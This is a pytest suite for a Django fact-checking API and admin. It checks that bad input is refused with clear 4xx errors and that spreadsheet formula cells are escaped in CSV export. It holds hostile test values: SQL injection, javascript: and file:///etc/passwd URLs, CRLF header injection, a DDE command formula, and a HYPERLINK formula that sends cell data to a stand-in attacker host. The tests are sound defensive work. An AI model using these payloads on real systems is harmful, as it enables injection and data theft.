"""Bad input, table-driven: every case is a clear 4xx naming what is wrong, and nothing is written or lost.

The API cases go through the real urls with a reviewer's token (the only role that may write); the admin cases
post the real forms with a logged-in reviewer. Conventions held here (README "Querying the API"):
unknown query parameters are ignored (DRF's convention); `page_size` is capped at API_MAX_PAGE_SIZE, and one
that is not a positive number falls back to the default or to 1 — neither is an error.
"""

from __future__ import annotations

import base64
import csv
import html
import io
import json
import re
from dataclasses import dataclass, field

import pytest
from django.apps import apps
from django.contrib import admin
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import RequestFactory
from django.urls import reverse

from claims.models import Article, Claim, Evidence, Tag
from claims.validators import TAGS_MAX_PER_CLAIM, TEXT_MAX_LENGTH
from sources.models import Source
from tests import factories

pytestmark = pytest.mark.django_db

MB = 1024 * 1024
LONG_URL = "https://example.org/" + "a" * 10_000
NUL = "before\x00after"
BELL = "ring\x07ring"
RTL = "قال الوزير إن البطالة انخفضت إلى ٣٫٥٪ في مارس"  # Arabic, with Arabic-Indic digits
HEBREW_MIXED = "הוא אמר: OpenAI raised $6.6 billion"
SQLISH = "'; DROP TABLE claims_claim; -- \" OR 1=1 /* */ UNION SELECT password FROM auth_user"


def cursor(payload) -> str:
    raw = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


@dataclass(frozen=True)
class Bad:
    id: str
    method: str
    path: str  # "{claim}" is the fixture claim's id
    body: object = None  # dict/list: sent as JSON; bytes/str: sent as is
    status: int = 400
    names: str | None = None  # a key the error body must have (the parameter or field at fault)
    content_type: str = "application/json"
    headers: dict = field(default_factory=dict)


CLAIMS = "/api/v1/claims/"
ONE = "/api/v1/claims/{claim}/"
EVIDENCE = "/api/v1/claims/{claim}/evidence/"

API_CASES = [
    # --- claim create: text ------------------------------------------------------------------------------
    Bad("create-text-nul", "post", CLAIMS, {"text": NUL}, names="text"),
    Bad("create-text-control", "post", CLAIMS, {"text": BELL}, names="text"),
    Bad("create-text-lone-surrogate", "post", CLAIMS, b'{"text": "half \\ud800 a pair"}', names="text"),
    Bad("create-text-1mb", "post", CLAIMS, {"text": "x" * MB}, names="text"),
    Bad("create-text-just-over", "post", CLAIMS, {"text": "x" * (TEXT_MAX_LENGTH["text"] + 1)}, names="text"),
    Bad("create-quote-1mb", "post", CLAIMS, {"text": "ok", "quote": "引" * (MB // 3)}, names="quote"),
    Bad("create-quote-6mb-escaped", "post", CLAIMS, {"text": "ok", "quote": "引" * MB}, status=413, names="detail"),
    Bad("create-explanation-1mb", "post", CLAIMS, {"text": "ok", "explanation": "e" * MB}, names="explanation"),
    Bad("create-explanation-nul", "post", CLAIMS, {"text": "ok", "explanation": NUL}, names="explanation"),
    Bad("create-claimant-nul", "post", CLAIMS, {"text": "ok", "claimant": NUL}, names="claimant"),
    Bad("create-language-long", "post", CLAIMS, {"text": "ok", "language": "zh-" * 100}, names="language"),
    Bad("create-tag-nul", "post", CLAIMS, {"text": "ok", "tags": [NUL]}, names="tags"),
    Bad("create-tag-1mb", "post", CLAIMS, {"text": "ok", "tags": ["t" * MB]}, names="tags"),
    Bad("create-tag-escape", "post", CLAIMS, {"text": "ok", "tags": ["\x1b[31mred"]}, names="tags"),
    Bad("create-tag-bell", "post", CLAIMS, {"text": "ok", "tags": [BELL]}, names="tags"),
    Bad("create-tag-rlo", "post", CLAIMS, {"text": "ok", "tags": ["gpj.\u202eexe"]}, names="tags"),
    Bad("create-tag-isolate", "post", CLAIMS, {"text": "ok", "tags": ["\u2067tag"]}, names="tags"),
    # --- claim create: wrong types and values ----------------------------------------------------------
    Bad("create-no-text", "post", CLAIMS, {"quote": "no text"}, names="text"),
    Bad("create-text-list", "post", CLAIMS, {"text": ["a", "b"]}, names="text"),
    Bad("create-text-object", "post", CLAIMS, {"text": {"a": 1}}, names="text"),
    Bad("create-text-null", "post", CLAIMS, {"text": None}, names="text"),
    Bad("create-tags-string", "post", CLAIMS, {"text": "ok", "tags": "a,b"}, names="tags"),
    Bad("create-value-word", "post", CLAIMS, {"text": "ok", "value": "ten"}, names="value"),
    Bad("create-value-nan", "post", CLAIMS, {"text": "ok", "value": "NaN"}, names="value"),
    Bad("create-value-infinity", "post", CLAIMS, {"text": "ok", "value": "Infinity"}, names="value"),
    Bad("create-value-huge", "post", CLAIMS, {"text": "ok", "value": "1e40"}, names="value"),
    Bad("create-article-word", "post", CLAIMS, {"text": "ok", "article": "one"}, names="article"),
    Bad("create-article-missing", "post", CLAIMS, {"text": "ok", "article": 2**62}, names="article"),
    Bad("create-article-too-big", "post", CLAIMS, {"text": "ok", "article": 10**30}, names="article"),
    Bad("create-verdict-unknown", "post", CLAIMS, {"text": "ok", "verdict": "maybe"}, names="verdict"),
    Bad("create-status-published", "post", CLAIMS, {"text": "ok", "status": "published"}),
    Bad("create-recheck-word", "post", CLAIMS, {"text": "ok", "recheck_after": "tomorrow"}, names="recheck_after"),
    Bad("create-recheck-year-0", "post", CLAIMS, {"text": "ok", "recheck_after": "0000-01-01"}, names="recheck_after"),
    Bad("create-unknown-field-only", "post", CLAIMS, {"txt": "typo"}, names="text"),
    # --- claim create: the body itself ---------------------------------------------------------------------
    Bad("create-malformed-json", "post", CLAIMS, b'{"text": "unterminated', names="detail"),
    Bad("create-json-array", "post", CLAIMS, [{"text": "a"}], names="non_field_errors"),
    Bad("create-json-null", "post", CLAIMS, b"null", names="non_field_errors"),
    Bad("create-json-bad-utf8", "post", CLAIMS, b'{"text": "\xff\xfe"}', names="detail"),
    Bad("create-json-nan-literal", "post", CLAIMS, b'{"text": "ok", "value": NaN}'),
    Bad("create-json-deep", "post", CLAIMS, b'{"text": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
    Bad("create-20mb-body", "post", CLAIMS, b'{"text": "' + b"x" * (20 * MB) + b'"}', status=413, names="detail"),
    Bad("create-text-plain", "post", CLAIMS, b"text=hello", status=415, content_type="text/plain"),
    # --- claim update ----------------------------------------------------------------------------------
    Bad("patch-text-nul", "patch", ONE, {"text": NUL}, names="text"),
    Bad("patch-explanation-1mb", "patch", ONE, {"explanation": "e" * MB}, names="explanation"),
    Bad("patch-explanation-surrogate", "patch", ONE, b'{"explanation": "\\udfff"}', names="explanation"),
    Bad("patch-status-jump", "patch", ONE, {"status": "retracted"}, names="detail"),
    Bad("patch-verdict-number", "patch", ONE, {"verdict": 3}, names="verdict"),
    Bad("patch-malformed-json", "patch", ONE, b"{,}", names="detail"),
    Bad(
        "patch-stale-etag",
        "patch",
        ONE,
        {"text": "new"},
        status=412,
        names="detail",
        headers={"If-Match": '"claim-{claim}-v999"'},
    ),
    Bad(
        "patch-garbage-etag", "patch", ONE, {"text": "new"}, status=412, names="detail", headers={"If-Match": "garbage"}
    ),
    Bad("put-not-allowed", "put", ONE, {"text": "new"}, status=405),
    Bad("delete-not-allowed", "delete", ONE, status=405),
    Bad("patch-huge-id", "patch", "/api/v1/claims/99999999999999999999999/", {"text": "new"}, status=404),
    # --- evidence ------------------------------------------------------------------------------------------
    Bad("evidence-url-10k", "post", EVIDENCE, {"url": LONG_URL}, names="url"),
    Bad("evidence-url-javascript", "post", EVIDENCE, {"url": "javascript:alert(document.cookie)"}, names="url"),
    Bad("evidence-url-file", "post", EVIDENCE, {"url": "file:///etc/passwd"}, names="url"),
    Bad("evidence-url-data", "post", EVIDENCE, {"url": "data:text/html,<script>alert(1)</script>"}, names="url"),
    Bad("evidence-url-space", "post", EVIDENCE, {"url": "https://exa mple.org/page"}, names="url"),
    Bad("evidence-url-tab", "post", EVIDENCE, {"url": "https://example.org/a\tb"}, names="url"),
    Bad("evidence-url-newline", "post", EVIDENCE, {"url": "https://example.org/\r\nSet-Cookie: x=1"}, names="url"),
    Bad("evidence-url-nul", "post", EVIDENCE, {"url": "https://example.org/\x00"}, names="url"),
    Bad("evidence-url-no-host", "post", EVIDENCE, {"url": "https:///path"}, names="url"),
    Bad("evidence-url-bad-ipv6", "post", EVIDENCE, {"url": "http://[::1/"}, names="url"),
    Bad("evidence-url-bad-port", "post", EVIDENCE, {"url": "http://example.org:99999/"}, names="url"),
    Bad("evidence-url-bad-punycode", "post", EVIDENCE, {"url": "https://xn--zz.example/"}, names="url"),
    Bad("evidence-url-label-too-long", "post", EVIDENCE, {"url": f"https://{'a' * 64}.org/"}, names="url"),
    Bad("evidence-url-list", "post", EVIDENCE, {"url": ["https://example.org/"]}, names="url"),
    Bad("evidence-url-missing", "post", EVIDENCE, {"stance": "supports"}, names="url"),
    Bad(
        "evidence-stance-unknown",
        "post",
        EVIDENCE,
        {"url": "https://example.org/x", "stance": "agrees"},
        names="stance",
    ),
    Bad("evidence-excerpt-nul", "post", EVIDENCE, {"url": "https://example.org/x", "excerpt": NUL}, names="excerpt"),
    Bad(
        "evidence-excerpt-1mb", "post", EVIDENCE, {"url": "https://example.org/x", "excerpt": "x" * MB}, names="excerpt"
    ),
    Bad(
        "evidence-note-surrogate",
        "post",
        EVIDENCE,
        b'{"url": "https://example.org/x", "note": "\\ud83d"}',
        names="note",
    ),
    Bad(
        "evidence-title-nul",
        "post",
        EVIDENCE,
        {"url": "https://example.org/x", "source_title": NUL},
        names="source_title",
    ),
    Bad("evidence-malformed-json", "post", EVIDENCE, b'{"url": ', names="detail"),
    Bad("evidence-duplicate", "post", EVIDENCE, {"url": "https://cited.example.org/already"}),
    Bad("evidence-remove-last-of-published", "delete", "/api/v1/claims/{published}/evidence/{published_ev}/"),
    # --- lists: filters, cursors ------------------------------------------------------------------------------
    Bad("filter-verdict-unknown", "get", CLAIMS + "?verdict=maybe", names="verdict"),
    Bad("filter-status-unknown", "get", CLAIMS + "?status=draft,gone", names="status"),
    Bad("filter-article-word", "get", CLAIMS + "?article=one", names="article"),
    Bad("filter-article-huge", "get", CLAIMS + "?article=1e400", names="article"),
    Bad("filter-article-overflow", "get", CLAIMS + "?article=" + "9" * 40, status=200, names="results"),
    Bad("filter-date-impossible", "get", CLAIMS + "?reviewed_after=2024-02-30", names="reviewed_after"),
    Bad("filter-date-format", "get", CLAIMS + "?reviewed_before=30/11/2024", names="reviewed_before"),
    Bad("filter-date-year-5", "get", CLAIMS + "?reviewed_before=99999-01-01", names="reviewed_before"),
    Bad("filter-source-health", "get", CLAIMS + "?source_health=zombie", names="source_health"),
    Bad("filter-ordering", "get", CLAIMS + "?ordering=password", names="ordering"),
    Bad("filter-language-nul", "get", CLAIMS + "?language=zh%00", names="language"),
    Bad("filter-tag-nul", "get", CLAIMS + "?tag=%00", names="tag"),
    Bad("filter-claimant-nul", "get", CLAIMS + "?claimant=a%00b", names="claimant"),
    Bad("q-nul", "get", CLAIMS + "?q=sora%00", names="q"),
    Bad("q-too-long", "get", CLAIMS + "?q=" + "a" * 10_000, names="q"),
    Bad("cursor-garbage", "get", CLAIMS + "?cursor=!!!not-base64!!!", names="cursor"),
    Bad("cursor-not-json", "get", CLAIMS + "?cursor=" + cursor(b"\xff\x00binary"), names="cursor"),
    Bad("cursor-wrong-shape", "get", CLAIMS + "?cursor=" + cursor({"x": 1}), names="cursor"),
    Bad("cursor-list", "get", CLAIMS + "?cursor=" + cursor([1, 2]), names="cursor"),
    Bad("cursor-wrong-length", "get", CLAIMS + "?cursor=" + cursor({"p": [1, 2, 3]}), names="cursor"),
    Bad("cursor-wrong-type", "get", CLAIMS + "?cursor=" + cursor({"p": [[1]]}), names="cursor"),
    # Out of range positions are positions all the same: after every row, or before every row.
    Bad("cursor-id-overflow", "get", CLAIMS + "?cursor=" + cursor({"p": [10**30]}), status=200, names="results"),
    Bad("cursor-id-float-overflow", "get", CLAIMS + "?cursor=" + cursor({"p": [-1e300]}), status=200, names="results"),
    Bad(
        "cursor-bad-date",
        "get",
        CLAIMS + "?ordering=created_at&cursor=" + cursor({"p": ["2024-13-45", 1]}),
        names="cursor",
    ),
    Bad("cursor-rank-word", "get", CLAIMS + "?q=statement&cursor=" + cursor({"p": ["high", 1]}), names="cursor"),
    Bad("cursor-nul", "get", CLAIMS + "?cursor=" + cursor({"p": ["\x00"]}), names="cursor"),
    Bad("cursor-sources", "get", "/api/v1/sources/?cursor=" + cursor({"p": ["x"]}), names="cursor"),
    Bad("cursor-feed", "get", "/api/v1/claimreview/?cursor=" + cursor({"p": [{}]}), names="cursor"),
    Bad("cursor-history", "get", ONE + "history/?cursor=" + cursor({"p": ["abc"]}), names="cursor"),
    Bad("export-format", "get", CLAIMS + "export/?format=xlsx", names="format"),
    Bad("export-filter", "get", CLAIMS + "export/?verdict=maybe", names="verdict"),
    Bad("export-format-nul", "get", CLAIMS + "export/?format=csv%00", names="format"),
    Bad("sources-health", "get", "/api/v1/sources/?health=zombie", names="health"),
    Bad("sources-domain-nul", "get", "/api/v1/sources/?domain=a%00b", names="domain"),
    Bad("similar-limit-word", "get", ONE + "similar/?limit=ten", names="limit"),
    Bad("similar-limit-exp", "get", ONE + "similar/?limit=1e999", names="limit"),
    Bad("similar-score-word", "get", ONE + "similar/?min_score=high", names="min_score"),
    Bad("similar-score-nan", "get", ONE + "similar/?min_score=nan", names="min_score"),
    Bad("detail-huge-id", "get", "/api/v1/claims/99999999999999999999999/", status=404),
    Bad("source-huge-id", "get", "/api/v1/sources/99999999999999999999999/checks/", status=404),
    # --- issue 14: empty items in comma-separated lists and the calendar's last day were 500s -------------------
    Bad("filter-verdict-trailing-comma", "get", CLAIMS + "?verdict=true,", names="verdict"),
    Bad("filter-verdict-only-comma", "get", CLAIMS + "?verdict=,", names="verdict"),
    Bad("filter-status-trailing-comma", "get", CLAIMS + "?status=published,", names="status"),
    Bad("filter-date-last-day", "get", CLAIMS + "?reviewed_before=9999-12-31", names="reviewed_before"),
    Bad("export-verdict-trailing-comma", "get", CLAIMS + "export/?format=csv&verdict=true,", names="verdict"),
    Bad("export-verdict-only-comma", "get", CLAIMS + "export/?format=csv&verdict=,", names="verdict"),
    Bad("export-status-trailing-comma", "get", CLAIMS + "export/?format=csv&status=published,", names="status"),
    Bad("export-date-last-day", "get", CLAIMS + "export/?reviewed_before=9999-12-31", names="reviewed_before"),
    Bad("sources-health-trailing-comma", "get", "/api/v1/sources/?health=dead,", names="health"),
    # --- issue 14: 65,536 tags were a false "database unavailable" 503 (too many query parameters) ---------------
    Bad(
        "create-tags-over-cap",
        "post",
        CLAIMS,
        {"text": "ok", "tags": [f"t{n}" for n in range(TAGS_MAX_PER_CLAIM + 1)]},
        names="tags",
    ),
    Bad("create-tags-65536", "post", CLAIMS, {"text": "ok", "tags": [f"t{n}" for n in range(65_536)]}, names="tags"),
    Bad("patch-tags-65536", "patch", ONE, {"tags": ["same"] * 65_536}, names="tags"),
]


@pytest.fixture
def world(reviewer):
    """A draft claim citing one source, and a published claim with its only piece of evidence."""
    claim = factories.ClaimFactory(text="A statement under review.")
    factories.EvidenceFactory(claim=claim, source=factories.SourceFactory(url="https://cited.example.org/already"))
    published = factories.PublishedClaimFactory(text="A published statement.")
    return {"claim": claim.pk, "published": published.pk, "published_ev": published.evidence.get().pk}


def state() -> dict:
    """Everything a bad request must leave alone."""
    return {
        "counts": [m.objects.count() for m in (Claim, Evidence, Source, Article, Tag, Claim.history.model)],
        "claims": list(
            Claim.objects.order_by("pk").values_list(
                "pk", "version", "text", "explanation", "verdict", "status", "updated_at"
            )
        ),
        "evidence": list(Evidence.objects.order_by("pk").values_list("pk", "source_id", "excerpt", "note")),
    }


def send(client, case: Bad, world: dict, headers: dict):
    path = case.path.format(**world)
    extra = {**headers, **{k: v.format(**world) for k, v in case.headers.items()}}
    if case.body is None:
        return getattr(client, case.method)(path, headers=extra)
    body = case.body if isinstance(case.body, bytes | str) else json.dumps(case.body)
    return getattr(client, case.method)(path, data=body, content_type=case.content_type, headers=extra)


@pytest.mark.parametrize("case", API_CASES, ids=[c.id for c in API_CASES])
def test_api_refuses_bad_input_clearly(client, world, reviewer_headers, case):
    before = state()
    response = send(client, case, world, reviewer_headers)
    assert response.status_code == case.status, response.content[:500]
    assert response["Content-Type"].split(";")[0] in ("application/json", "application/ld+json")
    body = response.json()
    if case.names:
        assert case.names in body, body
    # A message a person can read, not a traceback, and nothing echoed back at length.
    text = json.dumps(body, ensure_ascii=False)
    assert "Traceback" not in text
    assert len(text) < 5000
    assert state() == before


def test_unknown_filters_are_ignored(client, world, reviewer_headers):
    """DRF's convention: an unknown query parameter is not an error (clients may add their own, e.g. cache-busters)."""
    plain = client.get(CLAIMS, headers=reviewer_headers).json()["results"]
    odd = client.get(CLAIMS + "?colour=red&verdicts=false&__proto__=x&id__gt=0", headers=reviewer_headers)
    assert odd.status_code == 200
    assert odd.json()["results"] == plain


@pytest.mark.parametrize(
    ("page_size", "rows"),
    [("-5", 1), ("0", 1), ("3", 3), ("abc", 5), ("1e3", 5), ("99999999999999999999999999", 5), ("", 5)],
)
def test_page_size_is_capped_or_defaulted_never_an_error(client, db, settings, page_size, rows):
    settings.API_PAGE_SIZE, settings.API_MAX_PAGE_SIZE = 5, 5
    factories.PublishedClaimFactory.create_batch(7)
    response = client.get(CLAIMS, {"page_size": page_size})
    assert response.status_code == 200
    assert len(response.json()["results"]) == rows


@pytest.mark.parametrize("q", [SQLISH, "' OR '1'='1", "a & b | !c <-> d:*", RTL])
def test_sql_looking_and_odd_q_is_just_text(client, db, q):
    factories.PublishedClaimFactory(text="A published statement about unemployment.")
    response = client.get(CLAIMS, {"q": q})
    assert response.status_code == 200, response.content[:300]
    assert response.json()["results"] == []
    assert Claim.objects.count() == 1


# (a tag is markup to PostgreSQL's parser, in claims and queries alike: nothing to look for)
@pytest.mark.parametrize("q", ["((((", "\\", "%_%", "!!!", "🙂", "<script>alert(1)</script>"])
def test_a_q_of_punctuation_only_is_a_400_that_says_so(client, db, q):
    # issue 16: a query with nothing to look for is refused with a reason, not answered with an empty page
    factories.PublishedClaimFactory(text="A published statement about unemployment.")
    response = client.get(CLAIMS, {"q": q})
    assert response.status_code == 400, response.content[:300]
    assert "punctuation" in response.json()["q"][0]


@pytest.mark.parametrize(
    "text", [RTL, HEBREW_MIXED, "Emoji 🙂👍🏽 and ZWJ 👩‍🔬", "中文，全角１０８０ｐ", "tab\tand\nnewline"]
)
def test_right_to_left_emoji_and_cjk_text_is_kept_exactly(client, reviewer_headers, text):
    response = client.post(
        CLAIMS,
        {"text": text, "explanation": text, "tags": ["رأي"]},
        content_type="application/json",
        headers=reviewer_headers,
    )
    assert response.status_code == 201, response.json()
    claim = Claim.objects.get(pk=response.json()["id"])
    assert (claim.text, claim.explanation) == (text, text)
    assert client.get(f"/api/v1/claims/{claim.pk}/", headers=reviewer_headers).json()["text"] == text


@pytest.mark.parametrize(
    ("url", "stored"),
    [
        ("https://例え.テスト/ページ", "https://xn--r8jz45g.xn--zckzah/ページ"),
        ("https://Bücher.example/", "https://xn--bcher-kva.example/"),
        ("https://💩.la/", "https://xn--ls8h.la/"),
        ("https://مثال.إختبار/", "https://xn--mgbh0fb.xn--kgbechtv/"),
    ],
)
def test_idn_and_emoji_domains_are_stored_in_punycode(client, world, reviewer_headers, url, stored):
    response = client.post(
        EVIDENCE.format(**world), {"url": url}, content_type="application/json", headers=reviewer_headers
    )
    assert response.status_code == 201, response.json()
    assert response.json()["source"]["url"] == stored


def test_longest_allowed_text_is_accepted(client, reviewer_headers):
    text = "x" * TEXT_MAX_LENGTH["text"]
    response = client.post(CLAIMS, {"text": text}, content_type="application/json", headers=reviewer_headers)
    assert response.status_code == 201
    assert Claim.objects.get().text == text


# --- The admin ---------------------------------------------------------------------------------------------


@pytest.fixture
def admin_client(client, reviewer):
    client.force_login(reviewer)
    return client


def _change_form(client, claim):
    from tests.claims.test_admin import form_data

    return form_data(client.get(reverse("admin:claims_claim_change", args=[claim.pk])))


ADMIN_CLAIM_CASES = [
    ("text-nul", {"text": NUL}, "text"),
    ("text-control", {"text": BELL}, "text"),
    ("text-1mb", {"text": "x" * MB}, "text"),
    ("explanation-1mb", {"explanation": "y" * MB}, "explanation"),
    ("quote-nul", {"quote": NUL}, "quote"),
    ("claimant-nul", {"claimant": NUL}, "claimant"),
    ("value-word", {"value": "ten"}, "value"),
    ("verdict-unknown", {"verdict": "maybe"}, "verdict"),
    ("version-word", {"version": "one"}, "version"),
    ("evidence-url-10k", {"evidence-0-url": LONG_URL}, "evidence"),
    ("evidence-url-javascript", {"evidence-0-url": "javascript:alert(1)"}, "evidence"),
    ("evidence-url-file", {"evidence-0-url": "file:///etc/passwd"}, "evidence"),
    ("evidence-url-space", {"evidence-0-url": "https://exa mple.org/"}, "evidence"),
    ("evidence-url-nul", {"evidence-0-url": "https://example.org/\x00"}, "evidence"),
    ("evidence-excerpt-nul", {"evidence-0-url": "https://example.org/x", "evidence-0-excerpt": NUL}, "evidence"),
    ("evidence-excerpt-1mb", {"evidence-0-url": "https://example.org/x", "evidence-0-excerpt": "z" * MB}, "evidence"),
    (
        "appearance-url-twice",
        {
            "appearances-TOTAL_FORMS": "2",
            "appearances-0-url": "https://b.example/a",
            "appearances-1-url": "https://b.example/a",
        },
        "appearances",
    ),
    (
        "appearance-url-two-spellings",
        {
            "appearances-TOTAL_FORMS": "2",
            "appearances-0-url": "https://b.example/a",
            "appearances-1-url": "HTTPS://B.example:443/a?utm_source=x#top",
        },
        "appearances",
    ),
]


@pytest.mark.parametrize(("name", "change", "where"), ADMIN_CLAIM_CASES, ids=[c[0] for c in ADMIN_CLAIM_CASES])
def test_admin_claim_form_refuses_bad_input(admin_client, name, change, where):
    claim = factories.ClaimFactory(text="Original text.")
    data = _change_form(admin_client, claim)
    data.update(change)
    before = state()
    response = admin_client.post(reverse("admin:claims_claim_change", args=[claim.pk]), data)
    assert response.status_code == 200  # the form again, with errors (a save redirects)
    if where in ("evidence", "appearances"):
        formset = next(f.formset for f in response.context["inline_admin_formsets"] if f.formset.prefix == where)
        assert any(formset.errors), formset.errors
    else:
        assert where in response.context["adminform"].form.errors
    assert state() == before


SOURCE_CASES = [
    ("url-10k", {"url": LONG_URL}, "url"),
    ("url-javascript", {"url": "javascript:alert(1)"}, "url"),
    ("url-file", {"url": "file:///etc/passwd"}, "url"),
    ("url-space", {"url": "https://exa mple.org/"}, "url"),
    ("url-nul", {"url": "https://example.org/\x00"}, "url"),
    ("title-nul", {"url": "https://example.org/ok", "title": NUL}, "title"),
    ("title-bell", {"url": "https://example.org/ok", "title": "Report\x07"}, "title"),
    ("publisher-escape", {"url": "https://example.org/ok", "publisher": "\x1b[31mred"}, "publisher"),
    ("title-long", {"url": "https://example.org/ok", "title": "t" * 10_000}, "title"),
    ("archive-javascript", {"url": "https://example.org/ok", "archive_url": "javascript:alert(1)"}, "archive_url"),
]


@pytest.mark.parametrize(("name", "data", "where"), SOURCE_CASES, ids=[c[0] for c in SOURCE_CASES])
def test_admin_source_add_refuses_bad_input(admin_client, name, data, where):
    before = state()
    response = admin_client.post(reverse("admin:sources_source_add"), data)
    assert response.status_code == 200
    assert where in response.context["adminform"].form.errors
    assert state() == before


IMPORT_CASES = [
    ("url-10k", {"url": LONG_URL}, "url"),
    ("url-javascript", {"url": "javascript:alert(1)"}, "url"),
    ("url-file", {"url": "file:///etc/passwd"}, "url"),
    ("url-nul", {"url": "https://example.org/\x00"}, "url"),
    ("file-nul-bytes", {"file": ("a.md", "# Title\x00\n\n文章作者：x\n\nBody\x00text".encode())}, "__all__"),
    ("file-binary", {"file": ("a.html", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)))}, "__all__"),
    ("file-bad-utf8", {"file": ("a.md", b"# \xff\xfe title\n\nbody")}, "__all__"),
    (
        "file-nul-after-8kb",
        {"file": ("a.md", b"---\nurl: https://n.example.org/a\n---\n# T\n\n" + b"x" * 9000 + b"\x00")},
        "__all__",
    ),
    (
        "file-language-too-long",
        {"file": ("a.md", b"---\nurl: https://n.example.org/a\nlanguage: " + b"zh-" * 40 + b"\n---\n# T\n\nBody\n")},
        "__all__",
    ),
    ("file-body-escape", {"file": ("a.md", b"---\nurl: https://n.example.org/a\n---\n# T\n\n\x1b[2J\n")}, "__all__"),
]


@pytest.mark.parametrize(("name", "data", "where"), IMPORT_CASES, ids=[c[0] for c in IMPORT_CASES])
def test_admin_article_import_form_refuses_bad_input(admin_client, name, data, where):
    data = {k: SimpleUploadedFile(*v) if isinstance(v, tuple) else v for k, v in data.items()}
    before = state()
    response = admin_client.post(reverse("admin:claims_article_import"), data)
    assert response.status_code == 200
    errors = response.context["form"].errors
    assert where in errors, errors
    assert state() == before


def test_admin_article_form_refuses_a_1mb_body_and_nul(admin_client):
    data = {"url": "https://news.example.org/a", "title": "T", "body": "b" * MB}
    response = admin_client.post(reverse("admin:claims_article_add"), data)
    assert "body" in response.context["adminform"].form.errors
    response = admin_client.post(reverse("admin:claims_article_add"), {**data, "body": NUL})
    assert "body" in response.context["adminform"].form.errors
    assert not Article.objects.exists()


def test_admin_login_with_nul_is_a_form_error(client, db):
    get_user_model().objects.create_user("nul", password="pw-123456-long")
    response = client.post(reverse("admin:login"), {"username": "nul\x00", "password": "x\x00"})
    assert response.status_code == 200
    assert response.context["form"].errors


# --- The export (issue 14): its options, and cells a spreadsheet would run -----------------------------------

EXPORT_CASES = [
    Bad("export-bom-word", "get", CLAIMS + "export/?bom=x", names="bom"),
    Bad("export-bom-number", "get", CLAIMS + "export/?format=csv&bom=2", names="bom"),
    Bad("export-bom-nul", "get", CLAIMS + "export/?format=csv&bom=1%00", names="bom"),
    Bad("export-bom-ndjson", "get", CLAIMS + "export/?format=ndjson&bom=1", names="bom"),
]


@pytest.mark.parametrize("case", EXPORT_CASES, ids=[c.id for c in EXPORT_CASES])
def test_export_options_are_refused_clearly(client, world, reviewer_headers, case):
    test_api_refuses_bad_input_clearly(client, world, reviewer_headers, case)


FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"more")'
DDE = "=cmd|' /C calc'!A0"

# (id, field, the text as stored, the CSV cell). Stored as imports store it (the API trims leading whitespace).
CELL_CASES = [
    ("text-equals", "text", FORMULA, "'" + FORMULA),
    ("text-dde", "text", DDE, "'" + DDE),
    ("quote-plus", "quote", "+1+" + DDE[1:], "'+1+" + DDE[1:]),
    ("claimant-minus", "claimant", "-2+3", "'-2+3"),
    ("explanation-at", "explanation", "@SUM(1+1)", "'@SUM(1+1)"),
    ("unit-tab", "unit", "\t=1+1", "'\t=1+1"),
    ("claimant-carriage-return", "claimant", "\r=1+1", "'\r=1+1"),
    ("quote-fullwidth-equals", "quote", "＝1+1", "'＝1+1"),
    ("quote-fullwidth-plus", "quote", "＋1", "'＋1"),
    ("quote-fullwidth-minus", "quote", "－1", "'－1"),
    ("quote-fullwidth-at", "quote", "＠SUM(A1)", "'＠SUM(A1)"),
    ("quote-space-equals", "quote", "  =1+1", "'  =1+1"),
    ("quote-ideographic-space", "quote", "\u3000＝1+1", "'\u3000＝1+1"),
    ("title-equals", "article_title", FORMULA, "'" + FORMULA),
    ("quote-plain", "quote", "1+1=2, said the minister", "1+1=2, said the minister"),
    ("quote-chinese", "quote", "处理时间超过十秒", "处理时间超过十秒"),
    ("tags-formula", "tags", [DDE, "AI 视频"], '["=cmd|\' /C calc\'!A0","AI 视频"]'),
]


@pytest.mark.parametrize(("name", "field", "stored", "cell"), CELL_CASES, ids=[c[0] for c in CELL_CASES])
def test_csv_cells_a_spreadsheet_would_run_are_text_and_other_formats_exact(
    client, db, reviewer_headers, name, field, stored, cell
):
    if field == "article_title":
        claim = factories.PublishedClaimFactory(article=factories.ArticleFactory(title=stored))
    elif field == "tags":
        claim = factories.PublishedClaimFactory()
        claim.tags.add(*(Tag.objects.create(name=tag) for tag in stored))
    else:
        claim = factories.PublishedClaimFactory(**{field: stored})
    export = "/api/v1/claims/export/"
    text = b"".join(client.get(export, {"format": "csv"}, headers=reviewer_headers).streaming_content).decode()
    (row,) = [r for r in csv.DictReader(io.StringIO(text, newline="")) if r["id"] == str(claim.pk)]
    assert row[field] == cell
    (line,) = client.get(export, {"format": "ndjson"}, headers=reviewer_headers).streaming_content
    assert json.loads(line)[field] == stored
    if field in ("text", "quote", "claimant", "explanation", "unit", "tags"):
        assert client.get(f"{CLAIMS}{claim.pk}/", headers=reviewer_headers).json()[field] == stored


# --- The admin: NUL in list filters and autocomplete, tags, the import page's redirect -----------------------------


def _registered() -> list[str]:
    return sorted(model._meta.label_lower for model in admin.site._registry)


@pytest.fixture
def superuser_client(client, db):
    client.force_login(get_user_model().objects.create_superuser("root", "root@example.org", "pw-123456-long"))
    return client


@pytest.mark.parametrize("model", _registered())
def test_admin_list_with_a_nul_in_search_or_any_filter_is_a_400(superuser_client, model):
    """PostgreSQL refuses NUL in text, so a NUL in a query parameter used to reach the database as a 500."""
    model_admin = admin.site._registry[apps.get_model(model)]
    url = reverse(f"admin:{model.replace('.', '_')}_changelist")
    request = RequestFactory().get(url)
    request.user = get_user_model().objects.get(username="root")
    changelist = model_admin.get_changelist_instance(request)
    params = {"q", "o", "p"} | {name for spec in changelist.filter_specs for name in spec.expected_parameters()}
    if changelist.date_hierarchy:
        params |= {f"{changelist.date_hierarchy}__{part}" for part in ("year", "month", "day")}
    before = state()
    for param in sorted(params):
        response = superuser_client.get(url, {param: "a\x00b"})
        assert response.status_code == 400, (param, response.status_code)
    assert superuser_client.get(url, {"q": "plain"}).status_code == 200
    assert state() == before


def _autocomplete_fields() -> list[tuple[str, str, str]]:
    """(app_label, model_name, field_name) of every autocomplete field of the admin, inlines included."""
    found = set()
    for model, model_admin in admin.site._registry.items():
        for owner, fields in [(model, model_admin.autocomplete_fields)] + [
            (inline.model, inline.autocomplete_fields) for inline in model_admin.inlines
        ]:
            found |= {(owner._meta.app_label, owner._meta.model_name, name) for name in fields}
    return sorted(found)


